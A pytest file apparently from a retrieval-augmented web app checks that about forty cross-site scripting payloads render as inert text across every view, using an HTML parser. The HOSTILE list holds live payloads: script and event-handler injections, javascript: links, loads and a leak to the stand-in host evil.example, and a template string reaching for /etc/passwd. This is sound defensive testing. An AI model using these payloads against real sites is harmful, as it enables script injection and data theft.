"""Forty hostile texts in every place of the page that shows a text: none becomes an element that can act."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from dataclasses import replace
from html.parser import HTMLParser

import pytest

from rag.library.rows import DocumentRecord, FailureRecord
from rag.types import (
    Answer,
    Block,
    BlockKind,
    Chunk,
    Citation,
    Document,
    DocumentKind,
    Hit,
    Locator,
    Sentence,
    Unit,
    Why,
)
from ui.web.conversation import ConversationSummary, Exchange
from ui.web.export import conversation_html
from ui.web.page_pictures import PagePicture
from ui.web.scope_choice import choices
from ui.web.views.answer_view import exchange_html, transcript_html, welcome_html
from ui.web.views.conversation_list import Deleted, list_html
from ui.web.views.document_parts import parts_of
from ui.web.views.document_view import Pictured, Place, document_html, gone_html
from ui.web.views.note_images import Picture
from ui.web.views.notes_view import library_html, problem_html
from ui.web.views.scope_view import scope_html, scope_line_html
from ui.web.views.sources_view import sources_html

HOSTILE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=//evil.example><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<style>*{background:url(//evil.example)}</style>",
    "<template><script>alert(1)</script></template>",
    "</template><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<lectern-math onclick=alert(1)>x</lectern-math>",
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x]( javascript&colon;alert(1))",
    "![x](//evil.example/leak?q=1)",
    "![x](x\" onerror=\"alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "$\\href{javascript:alert(1)}{x}$",
    "```html\n<script>alert(1)</script>\n```",
    "\" onmouseover=\"alert(1)",
    "' autofocus onfocus='alert(1)",
    "{{ ''.__class__ }}{% include '/etc/passwd' %}",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "\U000f0000<script>\U000f0001alert(1)",
)  # fmt: skip
ELEMENTS = frozenset(
    "a article blockquote br button caption code details div em figcaption figure h1 h2 h3 h4 hr img input label li "
    "lectern-math mark nav ol p pre q rect s section small span strong summary svg table tbody td template textarea th "
    "thead tr ul".split()
)  # fmt: skip
WHOLE_PAGE = frozenset({"html", "head", "meta", "title", "style", "body"})


class Tags(HTMLParser):
    """The elements and attributes of a page, as a browser sees them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))


ADDRESSES = ("/lectern/", "data:image/png;base64,")
OWN_LINK = re.compile(r"lectern/(golden|picture)/[0-9a-z]+")
"""The link under an answer by which it is made a golden question, and a picture of the notes.

They are relative to the course.
"""


def faults(html: str) -> Iterator[str]:
    """The elements that can run or load something, or change the page around them."""
    parser = Tags()
    parser.feed(html)
    names = [tag for tag, _ in parser.found]
    own = WHOLE_PAGE if html.startswith("<!doctype") else frozenset()
    for tag, attributes in parser.found:
        if tag not in ELEMENTS and not (tag in own and names.count(tag) == 1):
            yield f"<{tag}>"
        for name, value in attributes.items():
            address = value.strip().lower()
            if name.startswith("on") or name in ("style", "srcdoc", "action", "formaction", "http-equiv"):
                yield f"<{tag} {name}>"
            own_address = OWN_LINK.fullmatch(address) or address.startswith(ADDRESSES)
            if name in ("href", "src") and not own_address:
                yield f"<{tag} {name}={value}>"


def test_the_check_itself_finds_what_is_live() -> None:
    live = [text for text in HOSTILE if text.startswith("<") and "CDATA" not in text]
    missed = [text for text in live if not list(faults(text))]
    # Python's parser takes the whole of this one for a comment, a browser only its first five characters.
    assert missed == ["<!--><script>alert(1)</script>-->"]
    assert len(live) >= 25


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_is_only_text_wherever_it_is_shown(
    text: str,
    make_answer: Callable[..., Answer],
    make_exchange: Callable[..., Exchange],
    make_chunk: Callable[..., Chunk],
) -> None:
    chunk = make_chunk(text, document=text.replace("/", "_"), title=text, headings=(text,))
    hit = Hit(chunk, 0.9, Why(lexical_rank=1, matched_terms=(text,)))
    sentence = Sentence(text, (1,), True, 1.0, text, quoted=True)
    citation = Citation(1, chunk.document, text, 0, len(text), text)
    answer = make_answer(text, sentences=(sentence,), citations=(citation,), hits=(hit,))
    shown = make_exchange(answer, question=text, scope=(f"folder:{text}",), model=text, text=text)
    refused = make_exchange(replace(answer, abstained=True), question=text, text=text)
    failed = make_exchange(answer=None, question=text, error=text)
    where = Locator(Unit.LINE, 1, 1, text)
    document = Document(
        text, text, DocumentKind.MARKDOWN, "", text, (Block(BlockKind.PARAGRAPH, 0, len(text), where),)
    )
    parts = parts_of(document)
    place = Place("e1", 1, text, (0, len(text)), ((0, len(text)),), 0, 0, 1)
    record = DocumentRecord(text, text, DocumentKind.MARKDOWN, "", 0, 0, 1, text, (text,), (), "")
    summary = ConversationSummary("c1", text, "2026-11-22T04:00:00+00:00", 1)
    pages = {
        "exchange": exchange_html(shown),
        "refusal": exchange_html(refused),
        "failure": exchange_html(failed),
        "transcript": transcript_html(text, [], welcome_html([text], 1, text)),
        "sources": sources_html(shown),
        "list": list_html([summary], "c1", text, Deleted("c2", text)),
        "scope": scope_html(choices([record, replace(record, path="b.md")], [f"folder:{text}"]))
        + scope_line_html([text]),
        "notes": library_html([record], [FailureRecord(text, text, text, 0, 0, "")]) + problem_html(text),
        "document": document_html(
            document,
            parts,
            place,
            Pictured(
                {0: PagePicture("AA==", 1, 1)},
                {0: [Picture("lectern/picture/0", text)]},
                lambda name: Picture("lectern/picture/1", text),
            ),
        )
        + gone_html("e1", text),
        "export": conversation_html([shown, refused, failed]),
    }
    assert {name: found for name, html in pages.items() if (found := list(faults(html)))} == {}
